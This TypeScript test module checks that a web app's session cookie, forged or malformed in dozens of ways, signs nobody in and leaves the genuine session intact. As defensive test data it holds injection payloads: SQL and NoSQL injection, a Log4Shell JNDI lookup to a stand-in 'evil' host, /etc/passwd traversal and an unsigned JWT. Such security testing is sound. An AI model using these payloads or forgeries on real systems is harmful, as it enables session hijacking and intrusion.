import { createHash } from 'node:crypto';
import { expectStatus } from '../case-runner.ts';
import type { FaultCase, Target } from '../fault-class.ts';
import { COOKIE_NAME, CURRENT_USER, type Page, withPage } from '../management/page.ts';
import { showBytes } from '../raw-request.ts';

/** Values of a `Cookie` header, one or several of them, that are made of a genuine session. */
type Forgery = (page: Page, id: string) => readonly string[];

const REFUSED = [400, 401, 431];
const FLIPPED_PLACES = [0, 1, 7, 20, 41, 42];
const WORDS = [
  ...[
    '',
    ' ',
    'undefined',
    'null',
    'true',
    '0',
    '*',
    '%',
    '_',
    '..',
    '../../etc/passwd',
    '__proto__',
    '[object Object]',
  ],
  ...[
    "' or 1=1--",
    "' or '1'='1",
    '{"$ne":null}',
    '\x24{jndi:ldap://evil}',
    'admin',
    '1',
    'A'.repeat(43),
    '-'.repeat(43),
  ],
  ...['A'.repeat(15_000), '\xff'.repeat(43), '%00', 'eyJhbGciOiJub25lIn0.e30.'],
];
const NAMES = [
  'SID',
  'Sid',
  '__Host-sid',
  '__Secure-sid',
  'session',
  'sessionid',
  'JSESSIONID',
  'connect.sid',
  'token',
];

const of = (value: string): readonly string[] => [`${COOKIE_NAME}=${value}`];

const FORGERIES: Readonly<Record<string, Forgery>> = {
  'without its last character': ({ secret }) => of(secret.slice(0, -1)),
  'without its first character': ({ secret }) => of(secret.slice(1)),
  'with a character more': ({ secret }) => of(`${secret}A`),
  'with padding': ({ secret }) => of(`${secret}=`),
  'twice in one value': ({ secret }) => of(`${secret}${secret}`),
  'in lower case': ({ secret }) => of(secret.toLowerCase()),
  'in upper case': ({ secret }) => of(secret.toUpperCase()),
  'from its end': ({ secret }) => of([...secret].toReversed().join('')),
  'in quotes': ({ secret }) => of(`"${secret}"`),
  'in percent-encoding': ({ secret }) => of(`%${secret.charCodeAt(0).toString(16)}${secret.slice(1)}`),
  'in the base64 of other systems': ({ secret }) => of(`${Buffer.from(secret, 'base64url').toString('base64')}`),
  'in hexadecimal': ({ secret }) => of(Buffer.from(secret, 'base64url').toString('hex')),
  'with other unused bits': ({ secret }) => of(secret.slice(0, -1) + nextLetter(secret.at(-1) ?? 'A')),
  'as its hash in hexadecimal': ({ secret }) => of(createHash('sha256').update(secret).digest('hex')),
  'as its hash in base64': ({ secret }) => of(createHash('sha256').update(secret).digest('base64url')),
  'as its id': (_, id) => of(id),
  'as its token against forged requests': ({ csrfToken }) => of(csrfToken),
  'with something behind a comma': ({ secret }) => of(`${secret},x`),
  'with a NUL as text': ({ secret }) => of(`${secret}\\0`),
  'in the name': ({ secret }) => [secret, `${secret}=${COOKIE_NAME}`],
  'without an equals sign': ({ secret }) => [`${COOKIE_NAME}${secret}`],
  'after two equals signs': ({ secret }) => [`${COOKIE_NAME}==${secret}`],
  'behind a comma': ({ secret }) => [`a=1,${COOKIE_NAME}=${secret}`],
  twice: ({ secret }) => [`${COOKIE_NAME}=${secret}; ${COOKIE_NAME}=${secret}`],
  'before one that was planted': ({ secret }) => [`${COOKIE_NAME}=${secret}; ${COOKIE_NAME}=planted`],
  'behind one that was planted': ({ secret }) => [`${COOKIE_NAME}=planted; ${COOKIE_NAME}=${secret}`],
  'behind an empty one': ({ secret }) => [`${COOKIE_NAME}=; ${COOKIE_NAME}=${secret}`],
  'in one of two headers': ({ secret }) => [`${COOKIE_NAME}=planted`, `${COOKIE_NAME}=${secret}`],
  'behind 20,000 bytes of the same name': ({ secret }) => [
    `${`${COOKIE_NAME}=x; `.repeat(2_500)}${COOKIE_NAME}=${secret}`,
  ],
  'behind a head that is too large': ({ secret }) => [`a=${'x'.repeat(40_000)}; ${COOKIE_NAME}=${secret}`],
};

/** The cookie of a session, changed in any way, signs nobody in, and harms the session not at all. */
export function createCookieCases({ accounts }: Target): readonly FaultCase[] {
  const forgeries: readonly (readonly [string, Forgery])[] = [
    ...Object.entries(FORGERIES),
    ...FLIPPED_PLACES.map((place) => [`with the character ${place} changed`, flip(place)] as const),
    ...NAMES.map((name) => [`under the name ${name}`, ({ secret }: Page) => [`${name}=${secret}`]] as const),
    ...WORDS.map((word) => [`replaced by ${showBytes(word)}`, () => of(word)] as const),
  ];
  return [
    ...forgeries.map(
      ([name, forge]) =>
        ({
          name: `a session's secret ${name}`,
          run: (run) =>
            withPage(run, accounts.outsider, async (page) => {
              const headers = forge(page, await idOf(page)).map((value) => ['Cookie', value] as const);
              await expectStatus(run, { method: 'GET', target: CURRENT_USER, isAnonymous: true, headers }, REFUSED);
              if (!(await page.isSignedIn())) run.complain('the session has ended');
            }),
        }) satisfies FaultCase,
    ),
    ...['a=1; %; b=2', '%', 'a="x;y"; %', '%; other=sid=planted', `a=${'x'.repeat(8_000)}; %`].map(
      (form) =>
        ({
          name: `a session among other cookies: ${showBytes(form)}`,
          run: (run) =>
            withPage(run, accounts.outsider, async ({ cookie = '' }) => {
              const headers = [['Cookie', form.replace('%', cookie)]] as const;
              await expectStatus(run, { method: 'GET', target: CURRENT_USER, isAnonymous: true, headers }, [200]);
            }),
        }) satisfies FaultCase,
    ),
  ];
}

function flip(place: number): Forgery {
  return ({ secret }) => of(secret.slice(0, place) + nextLetter(secret[place] ?? 'A') + secret.slice(place + 1));
}

/** The next one in base64url: of the last character it changes only bits that stand for nothing, mostly. */
function nextLetter(letter: string): string {
  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  return letters[(letters.indexOf(letter) + 1) % letters.length] ?? 'A';
}

async function idOf(page: Page): Promise<string> {
  const answer = await page.send({ method: 'GET', target: '/api/roadstead/v1/session' });
  return typeof answer === 'string' ? answer : (JSON.parse(answer.body.toString('utf8')) as { id: string }).id;
}
